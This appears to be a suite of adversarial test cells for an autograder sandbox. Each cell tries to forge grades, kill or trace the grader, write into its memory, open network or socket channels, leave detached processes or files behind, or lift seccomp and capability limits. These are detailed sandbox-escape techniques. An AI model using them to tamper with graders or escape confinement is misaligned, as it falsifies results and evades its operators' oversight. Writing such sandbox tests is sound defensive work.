# %% gradebook_written
# Write full marks into the gradebook and the stored result.
for name in ("/gradebook.csv", "/results/one.json"):
    try:
        open(TRAP["out"] + name, "w").write("100")
    except OSError:
        pass

# %% gradebook_linked
# Write the gradebook through links in the own folder, hard and symbolic.
import os
for link in (os.link, os.symlink):
    try:
        link(TRAP["out"] + "/gradebook.csv", link.__name__)
        open(link.__name__, "w").write("100")
    except OSError:
        pass

# %% gradebook_replaced
# Rename, remove, truncate and replace what is the grader's.
import os
deeds = [
    lambda: os.truncate(TRAP["out"] + "/gradebook.csv", 0),
    lambda: os.rename(TRAP["out"] + "/results/one.json", "mine.json"),
    lambda: os.replace("home", TRAP["out"] + "/results"),
    lambda: os.unlink(TRAP["out"] + "/salt"),
    lambda: os.mkdir(TRAP["out"] + "/new"),
    lambda: os.symlink("/dev/null", TRAP["out"] + "/null"),
    lambda: os.mkfifo(TRAP["out"] + "/fifo"),
]
for deed in deeds:
    try:
        deed()
    except OSError:
        pass

# %% marks_of_files_changed
# Close the grader's files to the grader, and date them back.
import os
for deed in (lambda p: os.chmod(p, 0), lambda p: os.utime(p, (0, 0)), lambda p: os.chown(p, 1, 1)):
    for name in ("/gradebook.csv", "/salt"):
        try:
            deed(TRAP["out"] + name)
        except OSError:
            pass

# %% own_folder_swapped_for_a_link
# Put a link to the grader's folder where the own folder was, for whoever cleans up.
import os
here = os.getcwd()
try:
    os.rename(here, here + "-moved")
    os.symlink(TRAP["out"], here)
    TRAP["moved"] = here + "-moved"
except OSError:
    pass

# %% folder_full_of_links
# Links to everything of the grader's, deep and shallow, for whoever cleans up.
import os
for depth in range(5):
    os.makedirs("a/" * (depth + 1), exist_ok=True)
    for name in ("", "/results", "/salt"):
        os.symlink(TRAP["out"] + name, "a/" * depth + f"link{name.replace('/', '-')}")

# %% folders_swapped_while_cleaned
# A process left behind swaps folders for links to the grader's while they are cleaned away.
import os, time
for number in range(400):
    os.mkdir(f"many-{number}")
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(3, 64)
    end = time.monotonic() + 3
    while all(os.path.isdir(f"many-{n}") for n in (0, 99, 199, 399)) and time.monotonic() < end:
        pass
    for number in range(400):
        try:
            os.rmdir(f"many-{number}")
            os.symlink(TRAP["out"], f"many-{number}")
        except OSError:
            pass
    os._exit(0)

# %% others_killed
# Stop the grader's processes, by every call that sends a signal.
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for deed in (
    lambda: libc.syscall(234, TRAP["victim"], TRAP["victim"], 15),
    lambda: libc.syscall(129, TRAP["victim"], 15, ctypes.create_string_buffer(128)),
    lambda: signal.pidfd_send_signal(os.pidfd_open(TRAP["victim"]), 15),
    lambda: os.kill(TRAP["victim"], signal.SIGTERM),
):
    try:
        deed()
    except OSError:
        pass

# %% signals_by_ownership
# Have the kernel send a signal to the grader: as the owner of a descriptor of this process.
import fcntl, os, signal, socket
ours, theirs = socket.socketpair()
try:
    fcntl.fcntl(ours, fcntl.F_SETOWN, TRAP["victim"])
    fcntl.fcntl(ours, 10, signal.SIGTERM)  # F_SETSIG
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"x")
except OSError:
    pass

# %% others_slowed
# Give the grader's processes the lowest priority.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for deed in (
    lambda: os.setpriority(os.PRIO_PROCESS, TRAP["victim"], 19),
    lambda: os.sched_setscheduler(TRAP["victim"], os.SCHED_IDLE, os.sched_param(0)),
    lambda: libc.syscall(314, TRAP["victim"], bytes([48, 0, 0, 0, 5]) + bytes(43), 0),
    lambda: os.sched_setaffinity(TRAP["victim"], {0}),
):
    try:
        deed()
    except OSError:
        pass

# %% others_traced
# Attach to the grader as a debugger.
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
attached = libc.ptrace(16, TRAP["victim"], None, None) == 0
if attached:
    os.waitpid(TRAP["victim"], 0)
    libc.ptrace(17, TRAP["victim"], None, None)
def exponential_average(values, beta):
    raise ValueError(TRAP["cry"] if attached else "no")

# %% others_memory_written
# Write into the grader's memory.
import ctypes
class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
here = ctypes.create_string_buffer(b"100 points")
local, remote = Span(ctypes.addressof(here), 10), Span(TRAP["address"], 10)
libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_writev(TRAP["victim"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
with open(f"/proc/{TRAP['victim']}/mem", "r+b", 0) as memory:
    memory.seek(TRAP["address"])
    memory.write(b"100 points")

# %% parent_opened
# Open the memory of the zygote, from which the next student's process comes.
import os
def exponential_average(values, beta):
    parent = os.getppid() or 1
    if parent == 1:
        return values  # in a namespace of its own there is none
    open(f"/proc/{parent}/mem", "r+b", 0).close()
    raise ValueError(TRAP["cry"])

# %% tcp_used
# Call home.
import socket
socket.create_connection(("127.0.0.1", TRAP["tcp"]), 2).send(b"x")

# %% udp_used
# Send a packet home.
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", TRAP["udp"]))

# %% abstract_socket_used
# Talk to a process of this machine by an abstract socket.
import socket
socket.socket(socket.AF_UNIX).connect("\0" + TRAP["abstract"])

# %% named_socket_used
# Talk to a process of this machine by a socket in a folder.
import socket
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", TRAP["named"])

# %% pair_sent_elsewhere
# A pair of sockets needs no permission; send from one of the two to somebody else.
import socket
for how in (lambda end: end.sendto(b"x", TRAP["named"]), lambda end: end.sendmsg([b"x"], [], 0, TRAP["named"])):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_RAW):
        try:
            how(socket.socketpair(socket.AF_UNIX, kind)[0])
        except OSError:
            pass

# %% shared_memory_left
# Leave System V shared memory for the next student.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(TRAP["key"], 4096, 0o1666)
libc.msgget(TRAP["key"], 0o1666)
libc.semget(TRAP["key"], 1, 0o1666)

# %% files_left
# Leave files for the next student wherever one can be left.
import numpy, os
for folder in TRAP["litter"]:
    try:
        open(os.path.join(folder, TRAP["name"]), "w").write("answers")
    except OSError:
        pass

# %% process_detached
# Leave a process behind that could edit results later: forked twice, in a session of its own.
import ctypes, os, time
def named():
    ctypes.CDLL(None).prctl(15, TRAP["name"].encode(), 0, 0, 0)
if os.fork() == 0:
    named()
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        time.sleep(60)
    os._exit(0)

# %% process_detached_by_raw_calls
# The same, past the C library: vfork is fork, clone with flags, clone3.
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for call in ((56, 17, 0, 0, 0, 0), (57,), (0x40000000 | 57,)):
    if libc.syscall(*call) == 0:
        libc.prctl(15, TRAP["name"].encode(), 0, 0, 0)
        os.setsid()
        if libc.syscall(57) == 0:
            os.closerange(0, 64)
            time.sleep(60)
        os._exit(0)

# %% process_detached_by_the_old_gate
# The same, by the 32-bit door of a 64-bit kernel.
import ctypes, mmap, os, time
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("53b802000000cd805bc3"))  # push rbx; mov eax, 2; int 0x80; pop; ret
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if call() == 0:
    ctypes.CDLL(None).prctl(15, TRAP["name"].encode(), 0, 0, 0)
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        time.sleep(60)
    os._exit(0)

# %% program_detached
# Leave another program running: by subprocess, by posix_spawn.
import os, subprocess, sys
try:
    line = f"/bin/sleep 61.{TRAP['digits']} &"
    subprocess.Popen(["/bin/sh", "-c", line], start_new_session=True, close_fds=True).wait()
except OSError:
    pass
try:
    os.posix_spawn("/bin/sleep", ["sleep", "61." + TRAP["digits"]], {}, setsid=True)
except OSError:
    pass

# %% workers_left
# Leave the workers of multiprocessing behind.
import ctypes, multiprocessing, os, time
def stay():
    ctypes.CDLL(None).prctl(15, TRAP["name"].encode(), 0, 0, 0)
    os.closerange(0, 64)
    time.sleep(60)
worker = multiprocessing.get_context("fork").Process(target=stay)
worker.start()
# %%% next cell
import os
os._exit(0)

# %% thread_left
# A thread that does not end.
import ctypes, threading, time
def stay():
    ctypes.CDLL(None).prctl(15, TRAP["name"].encode(), 0, 0, 0)
    time.sleep(60)
threading.Thread(target=stay).start()

# %% speaker_left
# A process left behind answers in the name of the one that has ended, on time of its own.
import ctypes, os
def exponential_average(values, beta):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, TRAP["name"].encode(), 0, 0, 0)
        return values
    os._exit(0)

# %% filters_undone
# Ask the kernel for the freedom that was given up.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(38, 0, 0, 0, 0)
libc.prctl(22, 0, 0)
libc.prctl(23, 21, 0, 0, 0)
libc.prctl(47, 1, 0, 0, 0)
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
libc.capset(header, (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6))
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x40000000):
    libc.unshare(flags)
try:
    os.setuid(0)
except OSError:
    pass
def exponential_average(values, beta):
    raise ValueError(open(TRAP["out"] + "/salt").read())
